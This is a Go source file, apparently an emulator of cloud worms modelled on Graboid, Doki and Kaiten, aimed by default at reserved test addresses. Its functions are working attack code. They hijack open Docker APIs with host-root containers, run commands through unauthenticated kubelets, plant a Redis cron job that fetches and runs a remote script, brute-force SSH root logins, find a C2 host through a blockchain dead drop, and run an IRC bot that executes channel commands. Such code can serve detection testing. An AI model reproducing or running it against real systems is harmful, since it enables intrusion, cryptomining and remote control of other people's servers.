package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net/http"
	"net/netip"
	"os"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/crypto/ssh"
)

// targets is what the list at url names, or count addresses for benchmarks
// (RFC 2544) when it names none.
func targets(url string, count int) []string {
	var list []string
	for _, l := range lines(try(web, http.MethodGet, url, "")) {
		if _, err := netip.ParseAddr(l); err == nil {
			list = append(list, l)
		}
	}
	for i := 0; len(list) < count; i++ {
		list = append(list, fmt.Sprintf("198.18.%d.%d", 30+i/200, 1+i%200))
	}
	return list
}

// sweep knocks at one port of many hosts, some at a time, and lists who is in.
func sweep(hosts []string, port string) []string {
	var open []string
	var mu sync.Mutex
	var work sync.WaitGroup
	room := make(chan struct{}, 16)
	for _, h := range hosts {
		room <- struct{}{}
		work.Go(func() {
			defer func() { <-room }()
			if knock(h + ":" + port) {
				mu.Lock()
				open = append(open, h)
				mu.Unlock()
			}
		})
	}
	work.Wait()
	return open
}

// dockerWorm takes a list of addresses from its master, starts containers
// through the Docker API where it is open, and mines in short bursts.
func dockerWorm(args []string) error {
	master := arg(args, 0, "http://c2.graboid.test")
	for _, host := range sweep(targets(master+"/list.txt", 60), "2375") {
		api := "http://" + host + ":2375/v1.41"
		try(web, http.MethodGet, api+"/info", "")
		try(web, http.MethodPost, api+"/images/create?fromImage=registry.graboid.test/centos&tag=latest", "")
		try(web, http.MethodPost, api+"/containers/create?name=redis", `{"Image":"registry.graboid.test/centos","Cmd":["sh","-c","chroot /mnt sh"],"HostConfig":{"Binds":["/:/mnt"],"NetworkMode":"host"}}`,
			"Content-Type", "application/json")
	}
	pause, err := time.ParseDuration(arg(args, 1, "250s"))
	if err != nil {
		return err
	}
	for i := range 6 {
		try(web, http.MethodPost, master+"/alive", "id=7&burst="+strconv.Itoa(i), "Content-Type", "application/x-www-form-urlencoded")
		time.Sleep(pause)
	}
	return nil
}

// kubeWorm looks for kubelets that anybody may talk to, and runs something in
// the pods of the first three.
func kubeWorm(args []string) error {
	var hosts []string
	for i := range 48 {
		hosts = append(hosts, fmt.Sprintf("%s.%d", arg(args, 0, "198.18.90"), 10+i))
	}
	open := sweep(hosts, "10250")
	for _, node := range open[:min(3, len(open))] {
		try(insecure, http.MethodGet, "https://"+node+":10250/pods", "")
		try(insecure, http.MethodPost, "https://"+node+":10250/run/kube-system/kube-proxy-x2x7k/kube-proxy", "cmd=id", "Content-Type", "application/x-www-form-urlencoded")
	}
	return nil
}

// redisWorm has Redis servers write a scheduled task.
func redisWorm(args []string) error {
	var hosts []string
	for i := range 40 {
		hosts = append(hosts, fmt.Sprintf("198.18.95.%d", 1+i))
	}
	for _, h := range sweep(hosts, arg(args, 0, "6379")) {
		if err := redis(h+":"+arg(args, 0, "6379"), [][]string{
			{"SET", "x", "\n\n*/2 * * * * curl -fsSL http://198.18.7.9/r.sh | sh\n\n"},
			{"CONFIG", "SET", "dir", "/var/spool/cron"}, {"CONFIG", "SET", "dbfilename", "root"}, {"SAVE"},
		}); err != nil {
			fmt.Println(h, err)
		}
	}
	return nil
}

func redis(address string, commands [][]string) error {
	conn, err := dial(address)
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(limit))
	answers := bufio.NewReader(conn)
	for _, words := range commands {
		fmt.Fprintf(conn, "*%d\r\n", len(words))
		for _, w := range words {
			fmt.Fprintf(conn, "$%d\r\n%s\r\n", len(w), w)
		}
		if _, err := answers.ReadString('\n'); err != nil {
			return err
		}
	}
	return nil
}

// sshWorm looks for SSH servers and tries a few passwords on those it finds.
func sshWorm(args []string) error {
	var hosts []string
	for i := range 40 {
		hosts = append(hosts, fmt.Sprintf("203.0.113.%d", 100+i))
	}
	port := arg(args, 0, "22")
	var work sync.WaitGroup
	for _, h := range sweep(hosts, port) {
		work.Go(func() {
			for _, password := range []string{"root", "admin", "123456", "toor"} {
				fmt.Println(h, password, login(h+":"+port, "root", ssh.Password(password)))
			}
		})
	}
	work.Wait()
	return nil
}

// deadDrop learns from a chain explorer how much somebody spent, makes a name
// of it, as Doki did, and connects there.
func deadDrop(args []string) error {
	answer := try(web, http.MethodGet, arg(args, 0, "https://dogechain.info/api/v1/address/sent/DNothing"), "")
	var spent struct{ Sent string }
	if err := json.Unmarshal([]byte(answer), &spent); err != nil {
		return err
	}
	name := digest(spent.Sent)[:12] + "." + arg(args, 1, "dyndns.test")
	fmt.Println("tasks are at", name)
	try(web, http.MethodPost, "http://"+name+"/v1/task", "id=7", "Content-Type", "application/x-www-form-urlencoded")
	return nil
}

// ircBot joins a channel and does what is said there.
func ircBot(args []string) error {
	conn, err := dial(arg(args, 0, "irc.kaiten.test:6667"))
	if err != nil {
		return err
	}
	defer conn.Close()
	_ = conn.SetDeadline(time.Now().Add(limit))
	fmt.Fprintf(conn, "NICK AMD|%d\r\nUSER kaiten localhost localhost :kaiten\r\nJOIN #ssh :pw\r\n", os.Getpid())
	said := bufio.NewScanner(conn)
	for said.Scan() {
		line := said.Text()
		if rest, ok := strings.CutPrefix(line, "PING"); ok {
			fmt.Fprintf(conn, "PONG%s\r\n", rest)
		}
		if _, text, ok := strings.Cut(line, " PRIVMSG "); ok {
			_, order, _ := strings.Cut(text, " :")
			if command, ok := command(order); ok {
				fmt.Fprintf(conn, "PRIVMSG #ssh :%s\r\n", strings.ReplaceAll(strings.TrimSpace(obey(command)), "\n", " | "))
			}
		}
	}
	return nil // the server hung up, or was silent for long enough
}
